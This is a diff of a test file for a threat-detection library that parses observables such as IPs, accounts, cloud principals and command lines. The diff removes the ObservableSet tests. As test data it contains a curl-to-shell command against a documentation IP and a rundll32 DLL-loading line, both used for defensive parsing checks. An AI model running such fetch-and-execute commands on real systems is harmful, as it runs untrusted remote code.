@@ -9,7 +9,6 @@ import {
   guessObservable,
   makeObservable,
   normalizeDomain,
-  ObservableSet,
   parseAccount,
   parseCloudPrincipal,
   refang,
@@ -141,7 +140,7 @@ describe('normalizeDomain', () => {
   });
 });
 
-describe('dedupeObservables and ObservableSet', () => {
+describe('dedupeObservables and guessObservable', () => {
   test('dedupes by kind and value, case-insensitively for hostnames, domains, emails and hashes', () => {
     const list = [
       makeObservable('hostname', 'WS-0142', 'a'),
@@ -163,17 +162,6 @@ describe('dedupeObservables and ObservableSet', () => {
         'domain:example.com:',
         'hostname:example.com:',
       ],
-    );
-  });
-
-  test('ObservableSet adds arrays with indexed names and URLs with their host', () => {
-    const set = new ObservableSet();
-    set.add('ip', ['10.0.0.1', 'junk', '10.0.0.1'], 'host.ip');
-    set.addUrl('hxxps://203[.]0[.]113[.]5/a', 'url');
-    set.addUrl('https://cdn.bad-example.net/x', 'u2');
-    assert.deepEqual(
-      set.toArray().map((o) => `${o.kind}:${o.value}:${o.name ?? ''}`),
-      ['ip:10.0.0.1:host.ip[0]', 'url:https://203.0.113.5/a:url', 'ip:203.0.113.5:url.hostname', 'url:https://cdn.bad-example.net/x:u2', 'domain:cdn.bad-example.net:u2.hostname'],
     );
   });
 
@@ -209,22 +197,6 @@ describe('file paths and command lines', () => {
     assert.equal(executableOfCommandLine('/bin/sh -c "curl http://198.51.100.7/x | sh"'), '/bin/sh');
     assert.equal(executableOfCommandLine('   '), undefined);
   });
-
-  test('addCommandLine adds the line and the file name of its executable; addProcess adds path, line and hashes', () => {
-    const set = new ObservableSet();
-    set.addCommandLine('"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\Public\\a.dll,Start', 'process.cmd_line');
-    set.addProcess({ path: '/usr/sbin/sshd', cmdline: 'sshd: root@notty', hashes: ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'] }, { path: 'p.path' });
-    assert.deepEqual(
-      set.toArray().map((o) => `${o.kind}:${o.value}`),
-      [
-        'command_line:"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\Public\\a.dll,Start',
-        'file_name:rundll32.exe',
-        'file_name:sshd',
-        'command_line:sshd: root@notty',
-        'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
-      ],
-    );
-  });
 });
 
 describe('accounts', () => {
@@ -242,18 +214,6 @@ describe('accounts', () => {
     assert.deepEqual(userOfAccount('CORP\\jdoe'), { name: 'jdoe', domain: 'CORP' });
     assert.deepEqual(userOfAccount('J.Doe@Corp.Example'), { name: 'J.Doe@Corp.Example', domain: 'Corp.Example', email_addr: 'j.doe@corp.example' });
     assert.equal(userOfAccount('CORP\\DC01$'), undefined);
-  });
-
-  test('addAccount: user name for DOMAIN\\user, user and e-mail for a UPN, host for DC01$', () => {
-    const set = new ObservableSet();
-    set.addAccount('CORP\\jdoe', 'a');
-    set.addAccount('asmith@corp.example', 'b');
-    set.addAccount('DC01$', 'c', 'CORP');
-    set.addAccount(['WS-0142$', 'n/a'], 'd');
-    assert.deepEqual(
-      set.toArray().map((o) => `${o.kind}:${o.value}:${o.name ?? ''}`),
-      ['user:jdoe:a', 'user:asmith@corp.example:b', 'email:asmith@corp.example:b', 'hostname:DC01:c', 'hostname:WS-0142:d[0]'],
-    );
   });
 });
 
@@ -283,31 +243,6 @@ describe('cloud principals', () => {
     assert.deepEqual(parseCloudPrincipal('arn:aws-us-gov:iam::123456789012:root'), { resource_uid: 'arn:aws-us-gov:iam::123456789012:root', type: 'aws_root' });
     assert.deepEqual(parseCloudPrincipal('ASIAZ3EXAMPLE7KEY123'), { credential_uid: 'ASIAZ3EXAMPLE7KEY123', type: 'aws_access_key' });
     assert.equal(parseCloudPrincipal('AKIA-not-a-key'), undefined);
-  });
-
-  test('addPrincipal spreads a principal over user, e-mail, resource and credential observables', () => {
-    const set = new ObservableSet();
-    set.addPrincipal('arn:aws:iam::123456789012:user/alice', 'arn');
-    set.addPrincipal('AKIAIOSFODNN7EXAMPLE', 'key');
-    set.addPrincipal(['sa@p.iam.gserviceaccount.com'], 'gcp');
-    const obs = set.toArray();
-    assert.deepEqual(
-      obs.map((o) => `${o.kind}:${o.value}:${o.name ?? ''}`),
-      [
-        'user:alice:arn',
-        'resource_uid:arn:aws:iam::123456789012:user/alice:arn',
-        'credential_uid:AKIAIOSFODNN7EXAMPLE:key',
-        'user:sa@p.iam.gserviceaccount.com:gcp[0]',
-        'email:sa@p.iam.gserviceaccount.com:gcp[0]',
-      ],
-    );
-    assert.deepEqual(
-      obs.filter((o) => o.kind === 'resource_uid' || o.kind === 'credential_uid').map((o) => [o.type_id, o.type]),
-      [
-        [10, 'Resource UID'],
-        [19, 'User Credential ID'],
-      ],
-    );
   });
 });
 
